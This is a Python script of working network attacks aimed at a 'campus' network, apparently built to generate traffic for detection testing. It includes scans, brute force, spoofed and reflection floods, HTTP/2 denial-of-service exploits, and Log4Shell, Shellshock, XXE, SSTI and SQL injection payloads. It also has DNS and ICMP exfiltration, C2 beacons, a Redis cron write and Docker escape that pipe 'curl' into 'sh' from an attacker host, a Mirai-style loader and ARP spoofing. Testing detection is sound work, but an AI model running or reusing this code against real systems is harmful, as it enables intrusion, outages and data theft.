#!/usr/bin/env python3
"""Attacks of the campus for which Debian has no tool, as the same packets. Each ends by itself.  attacks.py NAME ARGUMENTS..."""
import asyncio
import base64
import hashlib
import json
import os
import random
import socket
import ssl
import struct
import sys
import threading
import time

BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36"


def paced(count, rate):
    begin = time.monotonic()
    for i in range(count):
        yield i
        time.sleep(max(0, begin + (i + 1) / rate - time.monotonic()))


def connect(target, port, source=None, wait=2.0):
    return socket.create_connection((target, int(port)), wait, (source, 0) if source else None)


def insecure(*protocols):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    if protocols:
        context.set_alpn_protocols(list(protocols))
    return context


def until(seconds):
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        yield end


def bots(count):
    return [f"203.0.113.{161 + i}" for i in range(int(count))]


def together(*jobs):
    threads = [threading.Thread(target=j, daemon=True) for j in jobs]
    for t in threads:
        t.start()
    for t in threads:
        t.join()


def raw_udp(source, target, sport, dport, data):
    udp = struct.pack("!4H", sport, dport, 8 + len(data), 0) + data
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.getrandbits(16), 0, 62, 17, 0, socket.inet_aton(source), socket.inet_aton(target)) + udp


def sender():
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


# Scans and sweeps

def touch(target, ports, rate, source=None, wait=1.0):
    """Connects to each port, or to each host of a prefix where the target ends with a dot."""
    first, last = map(int, ports.split("-"))
    numbers = list(range(first, last + 1))
    random.shuffle(numbers)
    for i in paced(len(numbers), float(rate)):
        try:
            connect(target, numbers[i], source, wait).close()
        except OSError:
            pass


def crowd_scan(target, count, each, rate):
    """Each of many sources looks at a few ports of its own."""
    together(*(lambda i=i, s=s: touch(target, f"{20 + i * int(each)}-{19 + (i + 1) * int(each)}", rate, s) for i, s in enumerate(bots(count))))


def sweep(prefix, hosts, port, rate, source=None):
    first, last = map(int, hosts.split("-"))
    for i in paced(last - first + 1, float(rate)):
        try:
            connect(f"{prefix}{first + i}", port, source, 0.25).close()
        except OSError:
            pass


def crowd_sweep(prefix, count, port):
    together(*(lambda i=i, s=s: sweep(prefix, f"{5 + 30 * i}-{34 + 30 * i}", port, 4, s) for i, s in enumerate(bots(count))))


def sweep6(prefix, last, port):
    for i in paced(int(last), 6):
        try:
            connect(f"{prefix}{i + 1:x}", port, None, 0.4).close()
        except OSError:
            pass


def udp_slow(target, first, count, pause):
    for i in range(int(count)):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(b"\0" * 8, (target, int(first) + 37 * i))
        time.sleep(float(pause))


def scan_bursts(target, bursts, each, pause):
    """A few ports, then a long pause, and on."""
    for i in range(int(bursts)):
        touch(target, f"{100 + 40 * i}-{99 + 40 * i + int(each)}", 8)
        time.sleep(float(pause))


def worm(port, count, rate):
    """Looks for victims at random addresses of the Internet."""
    for _ in paced(int(count), float(rate)):
        try:
            connect(f"{random.randint(20, 170)}.{random.randint(1, 250)}.{random.randint(1, 250)}.{random.randint(1, 250)}", port, None, 0.15).close()
        except OSError:
            pass


# Passwords

def imap_one(target, count, pause):
    """Many log-ins inside one connection in clear text; the server counts, the client does not hang up."""
    s, tries = None, 0
    for i in range(int(count)):
        try:
            if s is None:
                s = connect(target, 143, None, 8)
                s.recv(500)
            s.sendall(f"a{i} LOGIN ann word{i}x\r\n".encode())
            if b"BYE" in s.recv(500):
                s = None
            tries += 1
        except OSError:
            s = None
        time.sleep(float(pause))


def stuffing(target, count, each):
    """Names and passwords stolen elsewhere: each source tries a few, no name twice."""
    def one(source):
        for _ in range(int(each)):
            body = json.dumps({"mail": f"{os.urandom(4).hex()}@mail.example", "password": os.urandom(5).hex()}).encode()
            try:
                with connect(target, 80, source, 4) as s:
                    s.sendall(f"POST /api/session HTTP/1.1\r\nHost: api.campus.example\r\nUser-Agent: {BROWSER}\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode() + body)
                    s.recv(2000)
            except OSError:
                pass
            time.sleep(random.uniform(1, 5))
    together(*(lambda s=s: one(s) for s in bots(count)))


# Floods

def quic_flood(target, rate, seconds):
    """QUIC Initial packets (RFC 9000) with a new connection each."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in paced(int(rate) * int(seconds), int(rate)):
        s.sendto(b"\xc3\0\0\0\1\x08" + os.urandom(8) + b"\0\0\x44\xd0" + os.urandom(1182), (target, 443))


def crowd_requests(target, count, rate, seconds):
    """Whole requests from many real addresses, each modest."""
    def one(source):
        for _ in paced(int(float(rate) * float(seconds)), float(rate)):
            try:
                with connect(target, 80, source, 3) as s:
                    s.sendall(f"GET /about.html?{os.urandom(3).hex()} HTTP/1.1\r\nHost: www.campus.example\r\nUser-Agent: {BROWSER}\r\nConnection: close\r\n\r\n".encode())
                    while s.recv(65536):
                        pass
            except OSError:
                pass
    together(*(lambda s=s: one(s) for s in bots(count)))


def reflected(target, port, rate, seconds):
    """What the victim of a reflection sees: chargen 19, SNMP 161, WS-Discovery 3702, CoAP 5683."""
    s, servers, size = sender(), [f"203.0.113.{i}" for i in range(161, 199)], {19: 512, 161: 900, 3702: 1100, 5683: 700}[int(port)]
    for _ in paced(int(rate) * int(seconds), int(rate)):
        s.sendto(raw_udp(random.choice(servers), target, int(port), 47000 + random.randint(0, 2), os.urandom(size)), (target, 0))


def dns_torture(target, count, rate, seconds):
    """Names that do not exist below a real zone, through many resolvers: the zone's own server is the victim."""
    s, sources = sender(), bots(count)
    for _ in paced(int(rate) * int(seconds), int(rate)):
        label = "".join(random.choices("abcdefghijklmnopqrstuvwxyz0123456789", k=random.randint(6, 14)))
        name = b"".join(bytes([len(p)]) + p.encode() for p in f"{label}.shop.example".split(".")) + b"\0"
        s.sendto(raw_udp(random.choice(sources), target, random.randint(1025, 65000), 53, os.urandom(2) + b"\1\0\0\1\0\0\0\0\0\0" + name + b"\0\1\0\1"), (target, 0))


def pulses(target, port, each, on, off, count):
    """Short bursts of SYNs with quiet between them."""
    s = sender()
    for _ in range(int(count)):
        for _ in paced(int(float(each) * float(on)), float(each)):
            source, sport = socket.inet_aton("203.0.113.140"), random.randint(1025, 65000)
            tcp = struct.pack("!HHIIBBHHH", sport, int(port), random.getrandbits(32), 0, 0x50, 2, 29200, 0, 0)
            s.sendto(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 60, 6, 0, source, socket.inet_aton(target)) + tcp, (target, 0))
        time.sleep(float(off))


def h2_pings(target, port, seconds):
    """CVE-2019-9512: PING frames as fast as one connection carries them, the answers unread for a while."""
    with insecure("h2").wrap_socket(connect(target, port), server_hostname="campus.example") as s:
        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0")
        s.settimeout(0.01)
        for _ in until(seconds):
            try:
                s.sendall(b"".join(b"\0\0\x08\6\0\0\0\0\0" + os.urandom(8) for _ in range(60)))
                s.recv(65536)
            except (TimeoutError, ssl.SSLWantReadError):
                pass
            except OSError:
                return


def posts(target, size, threads, seconds):
    """Large bodies sent to a page that wants none."""
    body = os.urandom(int(size))

    def one():
        for _ in until(seconds):
            try:
                with connect(target, 80) as s:
                    s.sendall(f"POST /item HTTP/1.1\r\nHost: www.campus.example\r\nUser-Agent: {BROWSER}\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode() + body)
                    s.recv(2000)
            except OSError:
                pass
    together(*[one] * int(threads))


def udp6(target, rate, seconds):
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    for _ in paced(int(rate) * int(seconds), int(rate)):
        s.sendto(os.urandom(600), (target, random.randint(1000, 60000)))


def options_flood(target, rate, seconds):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for i in paced(int(rate) * int(seconds), int(rate)):
        s.sendto(f"INVITE sip:{i % 900}@{target} SIP/2.0\r\nVia: SIP/2.0/UDP 203.0.113.141:5060;branch=z9hG4bK{os.urandom(5).hex()}\r\nFrom: <sip:a@203.0.113.141>;tag={i}\r\nTo: <sip:{i % 900}@{target}>\r\nCall-ID: {os.urandom(8).hex()}\r\nCSeq: 1 INVITE\r\nContent-Length: 0\r\n\r\n".encode(), (target, 5060))


def hang_up(target, port, rate, seconds):
    """Connections that are opened and closed at once."""
    def one():
        for _ in paced(int(float(rate) * float(seconds) / 10), float(rate) / 10):
            try:
                connect(target, port).close()
            except OSError:
                pass
    together(*[one] * 10)


# Slow denial of service

def held(target, port, count, seconds, first, then="", every="6", sources="0"):
    """Connections that stay open: what each says at first, and again every few seconds."""
    opened, names = [], bots(sources) or [None]
    decode = {"hello": b"\x16\3\1\2\0\1\0\1\xfc\3\3" + os.urandom(60), "none": b"", "head": f"GET /?{os.getpid()} HTTP/1.1\r\nHost: campus.example\r\nUser-Agent: {BROWSER}\r\n".encode(),
              "chunked": b"POST /signin HTTP/1.1\r\nHost: campus.example\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n", "ssh": b"SSH-2.0-OpenSSH_9.2\r\n"}
    more = {"": b"", "line": b"X-Part: 1\r\n", "chunk": b"1\r\nx\r\n", "byte": b"\0"}
    end = time.monotonic() + float(seconds)
    for i in range(int(count)):
        try:
            s = connect(target, port, names[i % len(names)], 4)
            if decode[first]:
                s.sendall(decode[first])
            opened.append(s)
        except OSError:
            pass
        time.sleep(0.03)
    while time.monotonic() < end:
        time.sleep(float(every))
        for s in list(opened):
            try:
                if more[then]:
                    s.sendall(more[then])
            except OSError:
                opened.remove(s)


def h2_window(target, port, count, seconds):
    """CVE-2019-9517 and its kin: large pages are asked for with a window of nothing."""
    opened = []
    for _ in range(int(count)):
        try:
            s = insecure("h2").wrap_socket(connect(target, port, None, 4), server_hostname="campus.example")
            s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\6\4\0\0\0\0\0" + b"\0\4\0\0\0\0")
            path = b"/static/catalogue.csv"
            block = b"\x82\x87\x04" + bytes([len(path)]) + path + b"\x41\6campus"
            s.sendall(b"".join(len(block).to_bytes(3, "big") + b"\1\5" + struct.pack("!I", n) + block for n in range(1, 40, 2)))
            opened.append(s)
        except OSError:
            pass
        time.sleep(0.1)
    time.sleep(float(seconds) - 0.1 * int(count))


# Web

PROBES = ["/.env", "/.git/config", "/.aws/credentials", "/wp-login.php", "/phpmyadmin/index.php", "/actuator/env", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/server-status", "/config.json",
          "/backup.sql", "/.DS_Store", "/admin/.env", "/api/.env", "/telescope/requests", "/owa/auth/logon.aspx", "/solr/admin/info/system", "/boaform/admin/formLogin", "/cgi-bin/luci", "/HNAP1", "/manager/html",
          "/console/", "/_ignition/execute-solution", "/druid/index.html", "/.vscode/sftp.json", "/debug/default/view", "/ecp/Current/exporttool", "/autodiscover/autodiscover.json", "/sftp-config.json"]


def requests(target, port, lines, pause, tls=False):
    """One request after another: (method, path, header lines, body)."""
    for method, path, extra, body in lines:
        try:
            s = connect(target, port, None, 5)
            if tls:
                s = insecure().wrap_socket(s, server_hostname="www.campus.example")
            with s:
                s.sendall((f"{method} {path} HTTP/1.1\r\nHost: www.campus.example\r\nUser-Agent: {BROWSER}\r\n{extra}Connection: close\r\n" + (f"Content-Length: {len(body)}\r\n" if body else "") + "\r\n").encode() + body)
                while s.recv(65536):
                    pass
        except OSError:
            pass
        time.sleep(float(pause))


def env_probe(target):
    requests(target, 80, [("GET", p, "", b"") for p in PROBES], 0.6)


def env_probe_tls(target):
    requests(target, 443, [("GET", p, "", b"") for p in PROBES * 5], 0.15, True)


def jndi(target):
    texts = ["${jndi:ldap://198.51.100.77:1389/a}", "${${lower:j}ndi:${lower:l}dap://198.51.100.77/x}", "${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.77/y}"]
    requests(target, 80, [("GET", "/", f"X-Api-Version: {t}\r\nReferer: {t}\r\n", b"") for t in texts], 1)


def traversal(target):
    requests(target, 80, [("GET", p, "", b"") for p in ("/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd", "/static/..%c0%af..%c0%af..%c0%afetc/passwd",
                                                         "/download?name=....//....//....//etc/shadow", "/view?page=%2Fproc%2Fself%2Fenviron")], 1)


def shellshock(target):
    requests(target, 80, [("GET", p, "Cookie: () { :;}; /bin/bash -c 'wget -q http://198.51.100.77:8088/x.sh -O- | sh'\r\n", b"") for p in ("/cgi-bin/status", "/cgi-bin/test.cgi", "/cgi-sys/entropysearch.cgi")], 1)


def cms(target):
    names = ["akismet", "contact-form-7", "woocommerce", "elementor", "wordfence", "revslider", "wp-file-manager", "duplicator", "ninja-forms", "yoast", "jetpack", "wpforms-lite", "updraftplus", "really-simple-ssl"]
    lines = [("GET", f"/wp-content/plugins/{n}/readme.txt", "", b"") for n in names for _ in (0, 1)] + [("GET", f"/?author={i}", "", b"") for i in range(1, 11)] + [("GET", "/wp-json/wp/v2/users", "", b"")]
    requests(target, 80, lines, 0.2)


def web_shell(target):
    commands = ["id", "uname -a", "cat /etc/passwd", "ls -la /var/www", "wget http://198.51.100.77:8088/m.x86 -O /tmp/m", "chmod 777 /tmp/m; /tmp/m"]
    requests(target, 80, [("GET", "/uploads/img.php?cmd=" + "".join(c if c.isalnum() or c in "/.-_" else f"%{ord(c):02x}" for c in text), "", b"") for text in commands], 2)


def xxe(target):
    body = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><order><id>&x;</id></order>'
    requests(target, 80, [("POST", "/api/orders", "Content-Type: application/xml\r\n", body), ("POST", "/api/orders", "Content-Type: text/xml\r\n", body.replace(b"file:///etc/passwd", b"http://169.254.169.254/latest/meta-data/")),
                          ("POST", "/soap", "Content-Type: text/xml\r\n", body), ("POST", "/api/import", "Content-Type: application/xml\r\n", body)], 1.5)


def templates(target):
    requests(target, 80, [("GET", "/search?q=" + q, "", b"") for q in ("%7B%7B7*7%7D%7D", "%24%7B7*7%7D", "%7B%7Bconfig.__class__.__init__.__globals__%5B%27os%27%5D.popen(%27id%27).read()%7D%7D", "%3C%25%3D%20system(%27id%27)%20%25%3E",
                                                                       "%7B%7B%27%27.__class__.__mro__%5B1%5D.__subclasses__()%7D%7D")], 1.5)


def enumerate_ids(target, count):
    requests(target, 80, [("GET", f"/api/users/{i}", "Authorization: Bearer " + hashlib.sha256(b"x").hexdigest() + "\r\n", b"") for i in range(1, int(count) + 1)], 0.08)


def slow_sqli(target):
    texts = ["7'", "7%27%20aNd%20%271%27=%271", "7/**/oR/**/1=1", "7%27%20oRdEr%20bY%205--+-", "-7%27%20uNiOn/**/sElEcT%201,2,3,@@version--+-", "7%27;wAiTfOr%20dElAy%20%270:0:5%27--", "7%27%20AND%20(SELECT%206%20FROM(SELECT(SLEEP(5)))a)--+-"]
    requests(target, 80, [("GET", f"/item?id={t}", "", b"") for t in texts], 4)


def paths_tls(target, count, pause):
    requests(target, 443, [("GET", f"/{random.choice(('adm', 'old', 'bak', 'dev', 'api'))}{i}/", "", b"") for i in range(int(count))], pause, True)


# Tunnels

def question(target, name, kind, wait=1.0):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(wait)
    s.sendto(os.urandom(2) + b"\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack("!HH", kind, 1), (target, 53))
    try:
        s.recv(2000)
    except OSError:
        pass


def dns_steal(target, pause, seconds):
    """A file in base32, a line per question, through the ordinary resolver."""
    i = 0
    for _ in until(seconds):
        question(target, f"{base64.b32encode(os.urandom(30)).decode().lower()}.{i:x}.s.leak.example", 1)
        i += 1
        time.sleep(random.uniform(0.5, 1.5) * float(pause))


def dns_steal_short(target, pause, seconds):
    """Ten characters at a time, which look like a content network's names."""
    for _ in until(seconds):
        question(target, f"{os.urandom(5).hex()}.cdn.leak.example", random.choice((1, 28)))
        time.sleep(random.uniform(0.5, 1.5) * float(pause))


def echo(target, number, data, s=None):
    s = s or socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    body = struct.pack("!BBHHH", 8, 0, 0, 0x4242, number & 0xFFFF) + data
    words = body + b"\0" * (len(body) % 2)
    total = sum(struct.unpack(f"!{len(words) // 2}H", words))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    s.sendto(body[:2] + struct.pack("!H", ~total & 0xFFFF) + body[4:], (target, 0))


def icmp_steal(target, size, rate, seconds):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    for i in paced(int(float(rate) * float(seconds)), float(rate)):
        echo(target, i, os.urandom(int(size)), s)


def icmp_beacon(target, every, seconds):
    for i, _ in enumerate(until(seconds)):
        echo(target, i, b"id=7f3a;" + os.urandom(24).hex().encode())
        time.sleep(float(every))


# Masters

def pause(every, jitter, end):
    time.sleep(max(0, min(float(every) * random.uniform(1 - float(jitter) / 100, 1 + float(jitter) / 100), end - time.monotonic())))


def cookies(target, port, every, jitter, seconds):
    """A page asked for again and again, the metadata in a cookie, what was found now and then as a POST."""
    me = base64.b64encode(os.urandom(128)).decode()
    for n, end in enumerate(until(seconds)):
        try:
            with connect(target, port, None, 4) as s:
                if n % 5 == 4:
                    body = os.urandom(random.randint(60, 700))
                    s.sendall(f"POST /submit.php?id=49214 HTTP/1.1\r\nHost: {target}\r\nUser-Agent: {BROWSER}\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode() + body)
                else:
                    s.sendall(f"GET /__utm.gif HTTP/1.1\r\nHost: {target}\r\nUser-Agent: {BROWSER}\r\nCookie: {me}\r\nConnection: close\r\n\r\n".encode())
                s.settimeout(1)
                while s.recv(4096):
                    pass
        except OSError:
            pass
        pause(every, jitter, end)


def masters(every, jitter, seconds):
    """By turns at three masters, by TLS."""
    for n, end in enumerate(until(seconds)):
        try:
            with insecure().wrap_socket(connect(f"198.51.100.{77 + n % 3}", 8443, None, 4), server_hostname="cdn-static.example") as s:
                s.sendall(b"GET /jquery-3.6.1.min.js HTTP/1.1\r\nHost: cdn-static.example\r\n\r\n")
                s.recv(4096)
        except OSError:
            pass
        pause(every, jitter, end)


def long_talk(target, port, every, jitter, seconds, tls):
    """One connection for all of it, a heartbeat now and then."""
    s = connect(target, port, None, 4)
    if tls == "tls":
        s = insecure().wrap_socket(s)
    for end in until(seconds):
        s.sendall(os.urandom(random.randint(60, 70)))
        s.recv(4096)
        pause(every, jitter, end)


def requests_in_one(target, port, every, jitter, seconds):
    """Polls inside one TLS connection that stays open."""
    with insecure().wrap_socket(connect(target, port, None, 4), server_hostname="updates.example") as s:
        for end in until(seconds):
            s.sendall(f"POST /api/v1/poll HTTP/1.1\r\nHost: updates.example\r\nContent-Length: 64\r\n\r\n".encode() + os.urandom(64))
            s.recv(4096)
            pause(every, jitter, end)


def irc_bot(target, port, seconds):
    """Joins a channel, says what it is, answers pings and waits; another bot stands for the master."""
    def one(nick, lines):
        s = connect(target, port, None, 5)
        s.sendall(f"NICK {nick}\r\nUSER bot 0 * :bot\r\n".encode())
        time.sleep(1)
        s.sendall(b"JOIN #n3t s3cret\r\n")
        s.settimeout(0.5)
        began = time.monotonic()
        for _ in until(seconds):
            if lines and time.monotonic() - began > 6:
                s.sendall(f"PRIVMSG #n3t :{lines.pop(0)}\r\n".encode())
                began = time.monotonic()
            try:
                data = s.recv(4096)
            except TimeoutError:
                continue
            if data.startswith(b"PING"):
                s.sendall(b"PONG" + data[4:])
    one("[DEU|XP]" + os.urandom(3).hex(), ["[scan] 203.0.113.0/24:445 started", "[scan] 3 found", "[udp] done", "[info] cpu 2 GHz ram 4 GB up 3d"])


def miner(target, port, seconds):
    s = connect(target, port, None, 4)
    s.sendall(json.dumps({"id": 1, "jsonrpc": "2.0", "method": "login", "params": {"login": "4" + os.urandom(47).hex(), "pass": "x", "agent": "XMRig/6.21.0 (Linux x86_64)", "algo": ["rx/0", "cn/r"]}}).encode() + b"\n")
    s.settimeout(0.5)
    number, next_share = 2, time.monotonic() + 7
    for _ in until(seconds):
        try:
            s.recv(4096)
        except TimeoutError:
            pass
        if time.monotonic() > next_share:
            s.sendall(json.dumps({"id": number, "jsonrpc": "2.0", "method": "submit", "params": {"id": os.urandom(8).hex(), "job_id": os.urandom(6).hex(), "nonce": os.urandom(4).hex(), "result": os.urandom(32).hex()}}).encode() + b"\n")
            number, next_share = number + 1, time.monotonic() + random.uniform(5, 15)


# Generated names

def generated(target, kind, count, pause):
    """hex: the start of a hash; short: five to seven letters; pairs: consonant and vowel in turns."""
    for i in range(int(count)):
        if kind == "hex":
            name = hashlib.md5(f"{i}x2026".encode()).hexdigest()[:random.choice((12, 16, 24))] + random.choice((".com", ".net"))
        elif kind == "short":
            name = "".join(random.choices("abcdefghijklmnopqrstuvwxyz", k=random.randint(5, 7))) + random.choice((".com", ".net"))
        else:
            name = "".join(random.choice("bcdfgklmnprstvz") + random.choice("aeiou") for _ in range(random.randint(4, 6))) + ".com"
        question(target, name, 1)
        time.sleep(float(pause) * random.uniform(0.6, 1.4))


# Uploads

def pieces(target, port, count, size):
    """A file in pieces, one POST each."""
    for i in range(int(count)):
        body = os.urandom(int(size))
        with connect(target, port, None, 5) as s:
            s.sendall(f"POST /upload?part={i} HTTP/1.1\r\nHost: {target}\r\nUser-Agent: {BROWSER}\r\nContent-Type: application/octet-stream\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode() + body)
            s.recv(2000)
        time.sleep(0.4)


def drip(target, port, rate, seconds):
    """A raw connection that takes a file away at a modest rate."""
    s = connect(target, port, None, 5)
    s.settimeout(5)
    threading.Thread(target=lambda: [None for _ in iter(lambda: s.recv(65536), b"")], daemon=True).start()
    for _ in paced(int(seconds) * 20, 20):
        s.sendall(os.urandom(int(rate) // 20))


# Break-ins

def redis_write(target):
    """Writes a job into the system's table by a database that asks for no password."""
    with connect(target, 6379, None, 5) as s:
        for words in (["INFO"], ["FLUSHALL"], ["SET", "x", "\n\n*/2 * * * * curl -fsSL http://198.51.100.77:8088/i.sh | sh\n\n"], ["CONFIG", "SET", "dir", "/var/spool/cron"], ["CONFIG", "SET", "dbfilename", "root"], ["SAVE"]):
            s.sendall(f"*{len(words)}\r\n".encode() + b"".join(f"${len(w)}\r\n{w}\r\n".encode() for w in words))
            s.recv(8192)
            time.sleep(0.4)


def docker_start(target):
    """Starts a container that holds the host's disk, by an interface that asks for no password."""
    body = json.dumps({"Image": "alpine", "Cmd": ["chroot", "/mnt", "sh", "-c", "curl -s http://198.51.100.77:8088/i.sh | sh"], "HostConfig": {"Binds": ["/:/mnt"], "Privileged": True}}).encode()
    requests(target, 2375, [("GET", "/version", "", b""), ("GET", "/containers/json", "", b""), ("POST", "/containers/create", "Content-Type: application/json\r\n", body), ("POST", "/containers/4f66ad9a0b2e/start", "", b"")], 0.5)


def loader(target):
    """A bot that got in by telnet asks what machine it is on and loads itself."""
    with connect(target, 23, None, 5) as s:
        s.settimeout(4)
        for line in ("root", "xc3511", "enable", "system", "shell", "sh", "/bin/busybox MIRAI", "cat /proc/mounts; /bin/busybox PSWXQ", "cd /tmp; wget http://198.51.100.77:8088/m.arm7 -O - > dvr; chmod 777 dvr; ./dvr telnet.arm7"):
            try:
                s.recv(2000)
            except OSError:
                pass
            s.sendall(line.encode() + b"\r\n")
            time.sleep(0.5)


# The link

def claims(interface, address, victim, count, every):
    """ARP replies that nobody asked for, to one host, with the own link address for another's."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((interface, 0))
    with open(f"/sys/class/net/{interface}/address", encoding="ascii") as f:
        mac = bytes.fromhex(f.read().strip().replace(":", ""))
    for _ in range(int(count)):
        s.send(b"\xff" * 6 + mac + b"\x08\x06\0\1\x08\0\6\4\0\2" + mac + socket.inet_aton(address) + b"\0" * 6 + socket.inet_aton(victim))
        time.sleep(float(every))


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
